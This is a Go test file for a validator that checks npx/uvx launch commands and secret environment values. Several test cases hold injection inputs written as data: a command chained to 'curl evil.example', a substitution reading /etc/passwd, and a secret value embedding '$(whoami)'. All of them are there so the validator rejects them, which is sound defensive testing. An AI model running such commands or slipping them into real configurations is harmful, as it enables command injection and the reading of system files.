//nolint:testpackage
package validation

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateRunCommand(t *testing.T) {
	tests := []struct {
		name    string
		command string
		pkg     string
		wantErr string
	}{
		{
			name:    "clean npx invocation",
			command: "npx -y @acme/widget-server",
			pkg:     "@acme/widget-server",
		},
		{
			name:    "clean uvx invocation",
			command: "uvx acme-widget",
			pkg:     "acme-widget",
		},
		{
			name:    "empty command",
			command: "   ",
			pkg:     "@acme/widget-server",
			wantErr: "empty",
		},
		{
			name:    "command chaining",
			command: "npx -y @acme/widget-server; curl evil.example",
			pkg:     "@acme/widget-server",
			wantErr: "metacharacter",
		},
		{
			name:    "command substitution",
			command: "npx -y $(cat /etc/passwd)",
			pkg:     "@acme/widget-server",
			wantErr: "metacharacter",
		},
		{
			name:    "pipe",
			command: "npx -y @acme/widget-server | tee /tmp/out",
			pkg:     "@acme/widget-server",
			wantErr: "metacharacter",
		},
		{
			name:    "wrong package",
			command: "npx -y totally-different-pkg",
			pkg:     "@acme/widget-server",
			wantErr: "does not reference",
		},
		{
			name:    "no declared package",
			command: "npx -y something",
			pkg:     "",
			wantErr: "no package identifier",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRunCommand(tt.command, tt.pkg)
			if tt.wantErr == "" {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.wantErr)
		})
	}
}

func TestValidateSecrets(t *testing.T) {
	assert.NoError(t, ValidateSecrets(map[string]string{
		"API_KEY":      "sk-abc123",
		"WIDGET_TOKEN": "t0ken",
	}))

	err := ValidateSecrets(map[string]string{"api-key": "x"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "api-key")

	err = ValidateSecrets(map[string]string{"API_KEY": "abc$(whoami)"})
	require.Error(t, err)
	// The offending value must never appear in the error.
	assert.NotContains(t, err.Error(), "whoami")
	assert.Contains(t, err.Error(), "API_KEY")
}
